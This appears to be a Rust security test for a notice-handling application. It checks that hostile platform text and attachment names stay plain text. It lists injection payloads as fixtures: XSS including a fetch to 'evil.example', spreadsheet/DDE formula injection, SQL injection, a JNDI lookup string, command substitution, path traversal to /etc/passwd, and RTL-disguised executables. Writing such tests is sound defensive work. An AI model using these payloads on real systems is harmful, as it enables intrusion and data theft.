//! Promise G7: no text from the platform and no attachment becomes code, a path, or something else than it says.

use std::fs;
use std::path::PathBuf;

use serde_json::{Value, json};
use sunbench_app::ErrorCode;
use sunbench_app::wire::{Attachment, AttachmentFileReq, AttachmentKind, Nothing, NoticeReq, OutboxState};

use sunbench_contract::{Notice, Resource, canonical_json};
use sunbench_domain::state::{NoticeState, State as _};
use sunbench_platform::record::Record;

use crate::world::{Seat, World};

/// Texts that some program would take for something else.
const TEXTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=\"fetch('http://evil.example')\">",
    "<svg/onload=alert(1)>{{constructor.constructor('alert(1)')()}}",
    "javascript:alert(1)",
    "=HYPERLINK(\"http://evil.example\",\"点此\")",
    "=cmd|' /C calc'!A0",
    "'; DROP TABLE notice; --",
    "\" OR 1=1 --",
    "%s%n%x${jndi:ldap://evil}`reboot`$(reboot)",
    "../../../../etc/passwd",
    "C:\\Windows\\System32\\calc.exe",
    "\u{202e}fdp.exe\u{202c} 附件",
    "\u{2066}隐\u{2069}\u{200b}\u{200d}\u{feff}\u{ad}藏",
    "\u{1b}[2J\u{1b}]0;title\u{7}\u{9b}31m",
    "第一行\r\n第二行\u{2028}第三行\u{85}第四行",
    "\u{0}NUL\u{0}",
    "ﷺ𝕏𠮷👨‍👩‍👧e\u{301}\u{e0041}",
];

/// Names of attachments with what they may become, and whether the system's viewer may see them.
const FILES: &[(&str, &[u8], &str, bool)] = &[
    ("../../../../.bashrc", b"x", "bashrc", false),
    ("/etc/passwd", b"x", "passwd", false),
    ("C:\\Users\\x\\回执.pdf", b"%PDF-1.7", "回执.pdf", true),
    ("a.txt:evil", b"x", "a.txt_evil", false),
    ("CON", b"x", "_CON", false),
    ("nul.pdf", b"%PDF-1.7", "_nul.pdf", true),
    ("回执.exe. . .", b"MZ", "回执.exe", false),
    ("回执\u{202e}fdp.exe", b"MZ", "回执fdp.exe", false),
    ("回执.pdf", b"MZ\x90\0", "回执.pdf", false),
    ("图.svg", b"<svg onload=alert(1)>", "图.svg", false),
    ("页.html", b"<script>alert(1)</script>", "页.html", false),
    ("文.txt", b"<script>alert(1)</script>", "文.txt", false),
    ("宏.xlsm", b"PK\x03\x04", "宏.xlsm", false),
    ("包.zip", b"PK\x03\x04", "包.zip", false),
    ("链.lnk", b"L\0\0\0", "链.lnk", false),
    ("说明.txt", "督办说明".as_bytes(), "说明.txt", true),
    ("表.csv", b"=HYPERLINK(\"http://x\")", "表.csv", true),
];

/// No text of an answer controls, hides or turns anything.
fn harmless(command: &str, answer: &Value, seen: &mut usize) {
    match answer {
        Value::String(text) => {
            *seen += 1;
            let bad = text.chars().find(|c| {
                (c.is_control() && *c != '\n' && *c != '\t') || sunbench_domain::text::is_invisible(*c)
            });
            assert_eq!(bad, None, "{command}: {text:?}");
        }
        Value::Array(values) => values.iter().for_each(|value| harmless(command, value, seen)),
        Value::Object(fields) => fields.values().for_each(|value| harmless(command, value, seen)),
        _ => {}
    }
}

fn file(attached: &Attachment, name: &str) -> AttachmentFileReq {
    AttachmentFileReq { sha256: attached.sha256.clone(), name: name.to_owned() }
}

/// A notice as a platform without limits publishes it.
fn publish(world: &World, id: &str, title: &str) {
    let at = sunbench_contract::time::Instant::parse("2026-11-20 08:00:00").unwrap();
    let data = Notice {
        notice_id: id.to_owned(),
        notice_code: id.to_owned(),
        title: title.to_owned(),
        body: title.to_owned(),
        level: "warning".to_owned(),
        indicator_id: None,
        rule_name: "规则".to_owned(),
        clause: "四(五)".to_owned(),
        issuer: "市医疗保障局".to_owned(),
        issue_time: at,
        reply_working_days: 5,
        due_time: None,
        state: NoticeState::Issued.raw().to_owned(),
        state_text: NoticeState::Issued.text_zh().to_owned(),
        round: 1,
        sign_time: None,
        signed_by: None,
        return_time: None,
        return_reason: String::new(),
        close_time: None,
        evidence: Vec::new(),
    };
    let record = Record {
        institution: Some(world.access.institution.clone()),
        resource: Resource::Notice,
        id: id.to_owned(),
        upd_time: at,
        day: at.at().date_naive(),
        doc: id.to_owned(),
        amount: "0".parse().unwrap(),
        data: canonical_json(&data).unwrap(),
    };
    world.platform.publish(&[record]).unwrap();
}

fn viewing(seat: &Seat) -> Vec<PathBuf> {
    let folders = fs::read_dir(seat.folder().join("viewing")).into_iter().flatten();
    folders
        .flat_map(|folder| fs::read_dir(folder.unwrap().path()).unwrap())
        .map(|f| f.unwrap().path())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn foreign_text_is_only_ever_text() {
    let world = World::start().await;
    let seat = world.seat().await;
    let mut notices = Vec::new();
    for text in TEXTS {
        notices.push((world.issue_notice(text, &format!("{text}\n正文")), *text));
    }
    // The console limits a title; a platform that means harm does not.
    let long = "长<b>".repeat(2_000_000);
    publish(&world, "hostile-long", &long);
    notices.push(("hostile-long".to_owned(), &long));
    for (id, _) in &notices {
        seat.arrival(id).await;
    }
    let mut shown = 0;
    for (id, text) in &notices {
        let raw = seat.app.notice_detail(NoticeReq { id: id.clone() }).await.unwrap();
        assert_eq!(raw.row.title, *text, "the data keep every character");
        seat.save_draft(id, 1, text, Vec::new()).await;
        let draft = seat.notice(id).await.draft.unwrap();
        assert_eq!(draft.cause, *text, "what a person typed stays what it is");
        let mut detail = seat.app.dispatch("notice_detail", json!({ "id": id })).await.unwrap();
        assert_eq!(detail["draft"]["cause"].as_str().unwrap(), *text);
        detail["draft"] = Value::Null;
        harmless("notice_detail", &detail, &mut shown);
    }
    // One of them is answered with itself, so that the outbox and the audit log hold it too.
    let item = seat.reply(&notices[11].0, 1).await.unwrap();
    seat.settled(&item.key, OutboxState::Accepted).await;
    for (command, request) in [
        ("app_state", json!({})),
        ("today", json!({})),
        ("notices_list", json!({ "scope": "all" })),
        ("notices_list", json!({ "scope": "open" })),
        ("outbox_list", json!({ "before": null })),
        ("audit_page", json!({ "before": null })),
        ("audit_explain", json!({ "from": null, "to": null, "about": null })),
        ("search", json!({ "text": "<script>", "limit": 20 })),
        ("search", json!({ "text": "'; DROP TABLE notice; --", "limit": 20 })),
        ("quarantine_list", json!({})),
    ] {
        let answer = seat.app.dispatch(command, request.clone()).await;
        harmless(command, &answer.unwrap_or_else(|e| panic!("{command} {request}: {e:?}")), &mut shown);
    }
    assert!(seat.app.verify(Nothing {}).await.unwrap().integrity);

    let mut refused = 0;
    for (name, content, safe, may_open) in FILES {
        let attached = seat.attach(name, content).await.unwrap();
        assert_eq!(attached.name, *safe);
        let request = file(&attached, name);
        let info = seat.app.attachment_inspect(request.clone()).await.unwrap();
        assert_eq!(
            (info.name.as_str(), info.may_open, info.renamed),
            (*safe, *may_open, name != safe),
            "{name}"
        );
        match seat.app.attachment_open(request.clone()).await {
            Ok(_) => assert!(may_open, "{name} was opened"),
            Err(error) => {
                assert_eq!((error.code, error.field.as_deref()), (ErrorCode::AttachmentRefused, Some(*safe)));
                assert!(!may_open, "{name} was not opened");
                refused += 1;
            }
        }
        let saved = PathBuf::from(seat.app.attachment_save(request).await.unwrap().file);
        assert_eq!(saved.file_name().unwrap().to_str(), Some(*safe));
        assert_eq!(fs::read(&saved).unwrap(), *content);
    }
    let open = viewing(&seat);
    assert_eq!(open.len(), FILES.len() - refused, "{open:?}");
    #[cfg(unix)]
    for path in &open {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = |path: &std::path::Path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
        assert_eq!((mode(path.parent().unwrap()), mode(path)), (0o700, 0o400), "{}", path.display());
    }
    seat.app.profile_lock(Nothing {}).await.unwrap();
    assert_eq!(viewing(&seat), Vec::<PathBuf>::new(), "nothing stays after the lock");
    println!(
        "promise G7: {} hostile texts in notices and drafts, {shown} texts of the window's answers, {} attachments ({refused} \
         refused), seed 0",
        notices.len(),
        FILES.len()
    );
    seat.close().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_crash_left_open_is_removed_at_the_next_start() {
    let world = World::start().await;
    let mut seat = world.seat().await;
    let attached = seat.attach("回执.pdf", b"%PDF-1.7").await.unwrap();
    let info = seat.app.attachment_open(file(&attached, "回执.pdf")).await.unwrap();
    assert_eq!((info.kind, info.disguised), (AttachmentKind::Document, false));
    let left = viewing(&seat).remove(0);
    assert_eq!(fs::read(&left).unwrap(), b"%PDF-1.7");
    // As a crash leaves it: the file comes back after the program's own end.
    let kept = fs::read(&left).unwrap();
    seat.close().await;
    assert!(!left.exists());
    fs::create_dir_all(left.parent().unwrap()).unwrap();
    fs::write(&left, kept).unwrap();
    seat.start().await;
    assert!(!left.exists());
    seat.close().await;
}
